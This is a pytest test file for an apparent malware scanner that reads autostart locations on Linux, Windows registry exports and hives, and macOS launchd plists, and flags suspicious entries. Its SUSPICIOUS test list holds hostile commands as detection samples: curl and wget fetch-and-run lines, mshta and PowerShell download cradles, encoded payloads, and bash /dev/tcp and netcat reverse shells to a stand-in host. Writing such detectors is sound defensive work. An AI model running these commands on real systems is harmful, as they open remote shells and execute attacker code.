"""What starts by itself: each mechanism is read, and what is suspicious is told from what every machine has."""

from __future__ import annotations

import random
from contextlib import suppress
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.scan.hive_file import hive_of
from tests.scan.scan_world import BOT, codes, scan
from tocsin.scan.autostart import find, texts
from tocsin.scan.autostart.entries import Entry
from tocsin.scan.autostart.find import entries_on, registry_entries
from tocsin.scan.autostart.hive import Damaged, hive
from tocsin.scan.autostart.traits import programs_of, traits_of
from tocsin.scan.findings import Finding
from tocsin.scan.scan import Asked

RUN = "Software\\Microsoft\\Windows\\CurrentVersion\\Run"

# Where it lies, what is in it, and what starts.
FILES = [
    ("etc/systemd/system/a.service", "[Service]\nExecStart=-/opt/a \\\n  --long\nType=simple\n", "/opt/a    --long"),
    ("usr/lib/systemd/system/b.service.d/x.conf", "[Service]\nExecStartPre=/opt/b\n", "/opt/b"),
    ("home/anna/.config/systemd/user/c.service", "[Service]\nExecStart=/opt/c\n", "/opt/c"),
    ("etc/crontab", "SHELL=/bin/sh\n# x\n17 * * * * root /opt/d\n", "/opt/d"),
    ("etc/cron.d/e", "*/5 1-3 * jan mon www-data /opt/e -x\n", "/opt/e -x"),
    ("etc/cron.d/f", "@reboot root /opt/f\n", "/opt/f"),
    ("var/spool/cron/crontabs/anna", "MAILTO=a\n0 0 * * * /opt/g\n", "/opt/g"),
    ("etc/anacrontab", "START_HOURS_RANGE=3-22\n1 5 cron.daily /opt/h\n", "/opt/h"),
    ("etc/cron.daily/i", "#!/bin/sh\n/opt/i\n", "/opt/i"),
    ("etc/profile.d/j.sh", "/opt/j\n", "/opt/j"),
    ("root/.bashrc", "/opt/k\n", "/opt/k"),
    ("etc/rc.local", "#!/bin/sh -e\n/opt/l &\nexit 0\n", "/opt/l &"),
    ("etc/init.d/m", "/opt/m\n", "/opt/m"),
    ("etc/inittab", "::respawn:/opt/n\n", "/opt/n"),
    ("etc/xdg/autostart/o.desktop", "[Desktop Entry]\nName=O\nExec=/opt/o\n[X]\nExec=/no\n", "/opt/o"),
    ("home/anna/.config/autostart/p.desktop", "[Desktop Entry]\nExec=/opt/p\n", "/opt/p"),
    ("etc/ld.so.preload", "/opt/q.so\n", "/opt/q.so"),
    (
        "Library/LaunchDaemons/r.plist",
        '<?xml version="1.0"?><plist><dict><key>Label</key><string>r</string><key>ProgramArguments</key>'
        "<array><string>/opt/r</string><string>-x</string></array></dict></plist>",
        "/opt/r -x",
    ),
]


def _disk(tmp_path: Path, *files: tuple[str, str | bytes]) -> Path:
    for place, content in files:
        file = tmp_path / place
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(content.encode() if isinstance(content, str) else content)
    return tmp_path


def _commands(base: Path) -> list[str]:
    return [entry.command for entry in entries_on(base) if isinstance(entry, Entry)]


@pytest.mark.parametrize(("place", "content", "command"), FILES, ids=[place for place, _, _ in FILES])
def test_what_starts_by_itself_is_read(tmp_path: Path, place: str, content: str, command: str) -> None:
    assert command in _commands(_disk(tmp_path, (place, content)))


def test_what_is_switched_off_does_not_start(tmp_path: Path) -> None:
    base = _disk(
        tmp_path,
        ("etc/xdg/autostart/a.desktop", "[Desktop Entry]\nExec=/opt/a\nHidden=true\n"),
        ("etc/systemd/system/note.txt", "ExecStart=/opt/b\n"),
        ("etc/crontab", "#17 * * * * root /opt/c\n"),
    )
    (base / "etc/systemd/system/masked.service").symlink_to("/dev/null")
    assert _commands(base) == []


def test_a_linked_unit_is_read_where_it_lies(tmp_path: Path) -> None:
    base = _disk(tmp_path, ("opt/evil/x.service", "[Service]\nExecStart=/opt/evil/x\n"))
    (base / "etc/systemd/system").mkdir(parents=True)
    (base / "etc/systemd/system/x.service").symlink_to("/opt/evil/x.service")
    assert _commands(base) == ["/opt/evil/x"]


def test_homes_are_those_of_the_disk(tmp_path: Path) -> None:
    base = _disk(
        tmp_path,
        ("etc/passwd", "anna:x:1000:1000::/srv/anna:/bin/sh\nbroken\n"),
        ("srv/anna/.profile", "/opt/a\n"),
        ("home/ben/.profile", "/opt/b\n"),
    )
    assert _commands(base) == ["/opt/a", "/opt/b"]


SUSPICIOUS = [
    ("starts-from-open-folder", "cron", "/tmp/.x/kdevtmpfsi"),
    ("starts-from-open-folder", "shell", "nohup /dev/shm/a &"),
    ("starts-from-open-folder", "registry", r'"C:\Users\anna\AppData\Local\Temp\a.exe" -s'),
    ("starts-fetched", "cron", "curl -fsSL http://198.51.100.7/x.sh | bash"),
    ("starts-fetched", "cron", "cd /var; wget http://198.51.100.7/m -O m && chmod +x m && ./m"),
    ("starts-fetched", "registry", "mshta.exe http://bad.example/a.hta"),
    ("starts-fetched", "registry", "powershell -w hidden iex(New-Object Net.WebClient).DownloadString('x')"),
    ("starts-decoded", "shell", "echo aGVsbG8K | base64 -d | sh"),
    ("starts-decoded", "registry", "powershell.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0A"),
    ("starts-remote-shell", "cron", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"),
    ("starts-remote-shell", "init", "nc 198.51.100.7 4444 -e /bin/sh"),
    ("starts-hidden", "systemd", "/usr/bin/.sshd -D"),
    ("starts-into-all", "ld.so.preload", "/usr/local/lib/libx.so"),
]


@pytest.mark.parametrize(("code", "kind", "command"), SUSPICIOUS)
def test_what_is_suspicious_is_told(code: str, kind: str, command: str) -> None:
    assert code in list(traits_of(Entry(kind, "/x", 1, command)))


@pytest.mark.parametrize(
    ("kind", "command"),
    [
        ("systemd", "/usr/bin/dbus-daemon --system --address=systemd:"),
        ("init", 'DIR="/tmp/$1"'),
        ("init", 'fn="$(mktemp /tmp/testwriteable.XXXXXXXXXX)" || return 1'),
        ("init", 'if [ -d "/tmp/$ICE_DIR" ]; then'),
        ("cron", "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }"),
        ("shell", "[ -f ~/.bash_aliases ] && . ~/.bash_aliases"),
        ("cron", "/home/anna/.local/bin/backup --to /tmp/backup.tar"),
        ("registry", r'"C:\Program Files\Vendor\app.exe" /background'),
        ("cron", "curl -s https://status.example/ping > /dev/null"),
    ],
)
def test_what_every_machine_has_is_not(kind: str, command: str) -> None:
    assert list(traits_of(Entry(kind, "/x", 1, command))) == []


def test_programs_are_the_paths_that_a_command_names() -> None:
    assert programs_of("FOO=/a/b sh -c '/opt/x --in=/y/z;/opt/w'") == ["/a/b", "/opt/x", "/y/z", "/opt/w"]


def _exported(text: str, coding: str = "utf-16") -> bytes:
    return text.replace("\n", "\r\n").encode(coding)


EXPORT = f"""Windows Registry Editor Version 5.00

[HKEY_CURRENT_USER\\{RUN}]
"Bot"="\\"C:\\\\Users\\\\Public\\\\bot.exe\\" -q"
"Long"=hex(2):25,00,54,00,45,00,4d,00,50,00,25,00,5c,00,61,00,2e,00,65,00,78,\\
  00,65,00,00,00
"Gone"=-
"Count"=dword:00000001

[HKEY_CURRENT_USER\\Software\\Vendor]
"Setting"="C:\\\\a.exe"

[HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\bad]
"ImagePath"="C:\\\\bad.sys"
"DisplayName"="Bad"
"""


def test_run_keys_of_an_export(tmp_path: Path) -> None:
    found = list(registry_entries(tmp_path, _exported(EXPORT)))
    assert [(entry.name.rpartition("\\")[2], entry.command) for entry in found if isinstance(entry, Entry)] == [
        ("Bot", '"C:\\Users\\Public\\bot.exe" -q'),
        ("Long", "%TEMP%\\a.exe"),
        ("ImagePath", "C:\\bad.sys"),
    ]
    old = _exported(EXPORT.replace("Windows Registry Editor Version 5.00", "REGEDIT4"), "ascii")
    assert len(list(registry_entries(tmp_path, old))) == 3
    assert list(registry_entries(tmp_path, b"just [HKEY text")) == []


TREE = {
    "Microsoft": {
        "Windows": {"CurrentVersion": {"Run": {"Bot": "C:\\Windows\\Temp\\bot.exe", "Count": 1}, "App": {"x": "y"}}},
        "Windows NT": {"CurrentVersion": {"Winlogon": {"Shell": "explorer.exe", "Other": "no"}}},
    }
}


@pytest.mark.parametrize("kind", [b"lf", b"lh", b"li", b"ri"])
def test_run_keys_of_a_hive(kind: bytes) -> None:
    found = [(name, command) for _, name, command in hive(hive_of(TREE, kind))]  # type: ignore[arg-type]
    assert found == [
        ("\\Microsoft\\Windows\\CurrentVersion\\Run\\Bot", "C:\\Windows\\Temp\\bot.exe"),
        ("\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Shell", "explorer.exe"),
    ]


@given(st.integers(0, 2**32), st.integers(1, 40))
def test_a_damaged_hive_ends_and_never_breaks(seed: int, changes: int) -> None:
    dice, raw = random.Random(seed), bytearray(hive_of(TREE))  # type: ignore[arg-type]
    for _ in range(changes):
        raw[dice.randrange(36, len(raw))] = dice.randrange(256)
    with suppress(Damaged):
        list(hive(bytes(raw[: dice.randrange(len(raw) // 2, len(raw) + 1)])))


def test_a_hive_in_circles_ends() -> None:
    raw = bytearray(hive_of({"a": {"b": {"c": "d"}}}, b"li"))
    root = int.from_bytes(raw[36:40], "little")
    for place in range(4_096, len(raw) - 4, 4):
        if raw[place : place + 2] == b"li":
            raw[place + 4 : place + 8] = root.to_bytes(4, "little")
    assert list(hive(bytes(raw))) == []


def test_hives_and_exports_are_known_by_what_is_in_them(tmp_path: Path) -> None:
    (tmp_path / "export.txt").write_bytes(_exported(EXPORT))
    (tmp_path / "dump").write_bytes(hive_of(TREE))  # type: ignore[arg-type]
    (tmp_path / "broken").write_bytes(b"regf but no more")
    found = codes(scan(tmp_path))
    assert found.count("starts-from-open-folder") == 3
    assert found.count("starts") == 2
    assert found.count("autostart-unread") == 1


def test_a_disk_is_told_with_its_programs(tmp_path: Path) -> None:
    base = _disk(
        tmp_path,
        ("etc/cron.d/x", "* * * * * root /srv/x/bot\n"),
        ("srv/x/bot", BOT),
        ("Users/anna/NTUSER.DAT", hive_of({"Software": TREE})),  # type: ignore[dict-item]
        ("home/anna/Downloads/bot2", BOT + b"2"),
        ("home/anna/Documents/bot3", BOT + b"3"),
    )
    found = scan(Asked(disk=base))
    assert {Path(f.path).name for f in found if f.code == "rule-matched"} == {"bot", "bot2"}
    assert codes(found).count("starts-from-open-folder") == 1


def test_entries_past_the_bound_are_told(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    base = _disk(tmp_path, ("etc/profile", "a\nb\nc\n"))
    monkeypatch.setattr(find, "AUTOSTART_ENTRIES_MAX", 3)
    assert _commands(base) == ["a", "b", "c"]
    monkeypatch.setattr(find, "AUTOSTART_ENTRIES_MAX", 2)
    assert [entry.code for entry in entries_on(base) if isinstance(entry, Finding)] == ["too-many"]


@given(st.text(max_size=300))
def test_no_text_breaks_a_reader(text: str) -> None:
    for reader in {place.reader for place in find.PLACES if place.reader}:
        for line, _, command in reader(text):
            assert line >= 0
            assert command


def test_a_plist_with_entities_is_not_expanded() -> None:
    bomb = '<!DOCTYPE x [<!ENTITY a "aaaa">]><plist><dict><key>Program</key><string>&a;</string></dict></plist>'
    assert list(texts.launchd(bomb)) == []
